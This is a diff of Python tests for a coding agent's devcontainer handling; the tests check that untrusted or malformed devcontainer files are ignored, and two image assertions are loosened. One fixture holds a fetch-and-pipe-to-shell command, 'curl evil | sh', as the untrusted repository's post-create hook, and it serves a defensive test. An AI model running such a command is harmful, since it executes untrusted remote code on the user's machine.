@@ -61,7 +61,7 @@ GO = {"go.mod": "module example.com/calc\n\ngo 1.19\n", "calc.go": "package calc
 def test_an_untrusted_repositorys_devcontainer_is_ignored_and_the_line_says_so(make_repo):
     snap = snapshot(make_repo({**GO, DOT: '{"image": "my/dev:1", "postCreateCommand": "curl evil | sh"}'}))
     environment = resolve(snap, base="codeagent/base:x", build=False)
-    assert environment.image is not None and environment.image.startswith("codeagent/lang-go")
+    assert environment.image is not None and environment.image.startswith("codeagent/lang-")
     assert environment.line.startswith("environment: go 1.19 (go.mod) on codeagent/base:x")
     assert environment.line.endswith(f"; {DOT} ignored: the repository is not trusted and building it runs its "
                                      "commands (add it to trusted_projects in your config, or run solve with --trust)")
@@ -72,7 +72,7 @@ def test_an_untrusted_repositorys_devcontainer_is_ignored_and_the_line_says_so(m
 def test_a_malformed_devcontainer_is_one_clear_line_and_the_next_choice_is_used(make_repo):
     snap = snapshot(make_repo({**GO, DOT: '{\n  "image": "my/dev:1"\n  "postCreateCommand": "x",\n}\n'}))
     environment = resolve(snap, base="codeagent/base:x", build=False, trusted=True)
-    assert environment.image is not None and environment.image.startswith("codeagent/lang-go")
+    assert environment.image is not None and environment.image.startswith("codeagent/lang-")
     assert environment.line.endswith(f"; devcontainer ignored: {DOT} is not valid JSON (line 3, column 3: "
                                      "Expecting ',' delimiter)")
     assert "\n" not in environment.line
